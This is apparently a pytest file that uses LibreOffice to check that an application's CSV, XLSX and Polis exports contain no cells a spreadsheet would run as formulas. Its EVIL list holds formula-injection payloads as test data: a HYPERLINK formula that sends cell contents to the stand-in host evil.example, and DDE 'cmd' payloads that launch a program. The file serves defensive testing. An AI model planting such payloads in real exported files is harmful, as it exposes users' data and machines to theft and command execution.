"""No table that goes out opens as a formula in a spreadsheet: asked of LibreOffice itself."""

import csv
import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hrgl.editions.attribution import vocabulary
from hrgl.formats.writers import separated
from hrgl.formats.writers.grid import read_grid
from hrgl.formats.writers.polis import PolisComment, write_polis
from hrgl.formats.writers.template import template
from hrgl.formats.writers.workbook import FlatTable, write_table

EVIL = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "=cmd|'/c calc'!A1",
]
ROOT = Path(__file__).resolve().parents[2]


def formulas(path: Path) -> list[str]:
    """The formulas that LibreOffice sees in a table."""
    if shutil.which("soffice") is None:
        pytest.skip("LibreOffice is absent")
    home = f"-env:UserInstallation=file://{path.parent / 'office'}"
    command = ["soffice", home, "--headless", "--convert-to", "fods", "--outdir", str(path.parent)]
    subprocess.run([*command, str(path)], check=True, capture_output=True, timeout=120)
    opened = path.with_suffix(".fods")
    if not opened.exists():
        pytest.skip("LibreOffice is there without Calc: apt-get install libreoffice-calc")
    return re.findall(r'table:formula="([^"]*)"', opened.read_text("utf-8"))


def test_a_spreadsheet_sees_formulas_where_nobody_made_them_harmless(tmp_path: Path) -> None:
    """What the others are measured by: without care there are formulas."""
    with (tmp_path / "raw.csv").open("w", newline="") as file:
        csv.writer(file).writerows([["text"], *[[each] for each in EVIL]])
    assert formulas(tmp_path / "raw.csv")


def test_what_cluster_and_the_account_write_opens_without_a_formula(tmp_path: Path) -> None:
    out = io.StringIO(newline="")
    csv.writer(out).writerows([["text", "=1+1"], *[[each, "x"] for each in EVIL]])
    grid = read_grid("in.csv", out.getvalue().encode())
    written = grid.with_columns({"label": EVIL[: len(grid.rows)]})
    (tmp_path / "cluster.csv").write_bytes(written)
    account = separated.write_csv(
        ["Reference", "Statement"], [["A1-01", e] for e in EVIL], mark=True
    )
    (tmp_path / "account.csv").write_bytes(account)
    assert formulas(tmp_path / "cluster.csv") == formulas(tmp_path / "account.csv") == []


@pytest.mark.parametrize("ending", [".csv", ".xlsx"])
def test_the_template_opens_without_a_formula(tmp_path: Path, ending: str) -> None:
    choices = {"Kind": [*vocabulary("kinds").values(), *EVIL]}
    (tmp_path / f"template{ending}").write_bytes(template(ending, choices))
    assert formulas(tmp_path / f"template{ending}") == []


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_tables_of_the_themes_open_without_a_formula(tmp_path: Path, ending: str) -> None:
    table = FlatTable("Codebook", [*EVIL[:1], "Statements"], [[each, 3] for each in EVIL])
    (tmp_path / f"codebook.{ending}").write_bytes(write_table(table, ending, EVIL[0]))
    assert formulas(tmp_path / f"codebook.{ending}") == []


def test_the_files_of_polis_open_without_a_formula(tmp_path: Path) -> None:
    comments = [PolisComment(each, each, each, each) for each in EVIL]
    with zipfile.ZipFile(io.BytesIO(write_polis(EVIL[0], EVIL[1], comments))) as bundle:
        bundle.extractall(tmp_path)
    for name in ("summary.csv", "comments.csv", "comment-groups.csv"):
        assert formulas(tmp_path / name) == []


@given(st.text(max_size=20))
def test_no_cell_begins_as_a_formula_does_and_no_word_is_lost(cell: str) -> None:
    safe = separated.harmless(cell)
    lines = cell.replace("\r\n", "\n").replace("\r", "\n")
    assert safe in {lines, f"'{lines}"}
    begin = safe.lstrip(" \u00a0")[:1]
    assert begin not in {"=", "@", "\t", "\r", "\n"}
    if begin in {"+", "-"}:
        assert re.fullmatch(r"[+-]\d.*", safe.strip())


@pytest.mark.parametrize(
    "number", ["-1", "+3.5", "-1,200.00", "-4e-3", "-12%", "0.75", "2023-02-01"]
)
def test_numbers_stay_numbers(number: str) -> None:
    assert separated.harmless(number) == number


def test_tables_on_screens_hand_out_nothing_by_themselves() -> None:
    config = (ROOT / ".streamlit" / "config.toml").read_text("utf-8")
    assert "disableDataExport = true" in config
